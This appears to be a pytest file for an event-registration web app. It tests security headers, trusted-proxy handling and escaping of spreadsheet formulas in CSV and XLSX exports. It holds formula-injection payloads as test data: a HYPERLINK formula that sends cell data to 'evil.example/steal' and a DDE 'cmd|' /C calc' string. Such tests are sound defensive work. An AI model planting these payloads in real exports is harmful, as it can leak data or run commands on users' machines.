"""Hostile input and browser-side defences, replayed over HTTP (issue 11, findings 5-8 and 11)."""
import csv
import io

import openpyxl
import pytest

from eventsite import create_app
from eventsite.events.models import Status
from eventsite.extensions import db
from tests.conftest import login, make_test_config
from tests.factories import make_event, make_forum, make_staff, make_user
from tests.registrations.helpers import open_event, register

HYPERLINK = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for your badge")'


# --- Finding 5: security headers and trusted proxies -------------------------------------------

def _assert_security_headers(response):
    csp = response.headers["Content-Security-Policy"]
    for directive in ("script-src 'self'", "style-src 'self'", "img-src 'self' data:", "object-src 'none'",
                      "base-uri 'self'", "form-action 'self'", "frame-ancestors 'none'"):
        assert directive in csp
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"
    assert "camera=(self)" in response.headers["Permissions-Policy"]


@pytest.mark.parametrize("path", ["/", "/account/login", "/no-such-page", "/static/css/site.css",
                                  "/events/no-such-event.ics"])
def test_every_kind_of_response_carries_the_security_headers(client, path):
    response = client.get(path)
    _assert_security_headers(response)
    assert "Strict-Transport-Security" not in response.headers  # development and tests speak plain http


def test_a_manage_page_with_its_token_in_the_url_carries_the_headers(ctx, client):
    organiser, event = open_event()
    participant = make_user()
    registration = register(event, participant)
    db.session.commit()
    response = client.get(f"/r/{registration.token}")
    assert response.status_code == 200
    _assert_security_headers(response)


def test_production_pins_https_with_hsts(database_url, tmp_path):
    app = create_app(make_test_config(database_url, tmp_path, EVENTSITE_ENV="production"))
    response = app.test_client().get("/account/login")
    assert response.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
    _assert_security_headers(response)


def _feed_url(app, headers):
    with app.app_context():
        organiser = make_user()
        forum = make_forum(staff=make_staff())
        event = make_event(forum, organiser=organiser, status=Status.PUBLISHED)
        db.session.commit()
        slug = event.slug
    body = app.test_client().get(f"/events/{slug}.ics", headers=headers).data.decode()
    return next(line for line in body.splitlines() if line.startswith("URL"))


PROXY_HEADERS = {"X-Forwarded-Proto": "https", "X-Forwarded-Host": "events.un.org", "X-Forwarded-Port": "443",
                 "X-Forwarded-For": "203.0.113.9"}


def test_behind_a_trusted_tls_proxy_links_are_https_with_the_public_host(app, database_url, tmp_path):
    proxied = create_app(make_test_config(database_url, tmp_path, TRUSTED_PROXIES=1))
    assert "URL:https://events.un.org/events/" in _feed_url(proxied, PROXY_HEADERS)
    # With no proxy declared, anyone could send these headers: they are ignored.
    direct = _feed_url(app, PROXY_HEADERS)
    assert "URL:http://localhost/events/" in direct and "events.un.org" not in direct


def test_the_proxy_count_comes_from_the_environment(tmp_path):
    from eventsite.config import ConfigError, build_config
    assert build_config(tmp_path, {})["TRUSTED_PROXIES"] == 0
    assert build_config(tmp_path, {"TRUSTED_PROXIES": "2"})["TRUSTED_PROXIES"] == 2
    with pytest.raises(ConfigError):
        build_config(tmp_path, {"TRUSTED_PROXIES": "yes"})


# --- Finding 6: formula injection in exports ----------------------------------------------------

def _csv_rows(data: bytes):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _xlsx_cells(data: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _registered_with_formulas(client):
    organiser, event = open_event()
    participant = make_user()
    registration = register(event, participant)
    registration.name = HYPERLINK
    registration.organisation = "@SUM(1+1)*cmd|' /C calc'!A0"
    registration.position = "+1-2"
    db.session.commit()
    login(client, organiser.email)
    return event


@pytest.mark.parametrize("typed", [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2"])
def test_registration_csv_writes_formulas_as_text(ctx, client, typed):
    event = _registered_with_formulas(client)
    rows = _csv_rows(client.get(f"/events/{event.slug}/registrations.csv?columns=name&columns=organisation"
                                "&columns=position").data)
    assert "'" + typed in rows[1]
    assert typed not in rows[1]


def test_registration_xlsx_types_formulas_as_strings(ctx, client):
    event = _registered_with_formulas(client)
    data = client.get(f"/events/{event.slug}/registrations.xlsx?columns=name&columns=organisation"
                      "&columns=position").data
    cells = {cell.value: cell for cell in _xlsx_cells(data)}
    for typed in (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2"):
        assert cells[typed].data_type == "s"  # text, not a formula ("f")
        assert cells[typed].quotePrefix  # Excel keeps it text even when the cell is edited


def test_forum_exports_write_formulas_as_text(ctx, client):
    organiser, event = open_event()
    event.title = "=1+1"
    registration = register(event, make_user())
    registration.name, registration.organisation = "-2+3", "\tTabbed"
    staff = make_staff()
    db.session.commit()
    login(client, staff.email)
    slug = event.forum.slug
    programme = _csv_rows(client.get(f"/forums/{slug}/programme.csv").data)
    assert programme[1][5] == "'=1+1"
    registrations = _csv_rows(client.get(f"/forums/{slug}/registrations.csv").data)
    assert (registrations[1][0], registrations[1][4], registrations[1][6]) == ("'=1+1", "'-2+3", "'\tTabbed")
    for path in (f"/forums/{slug}/programme.xlsx", f"/forums/{slug}/registrations.xlsx"):
        cells = _xlsx_cells(client.get(path).data)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert "=1+1" in [c.value for c in cells]
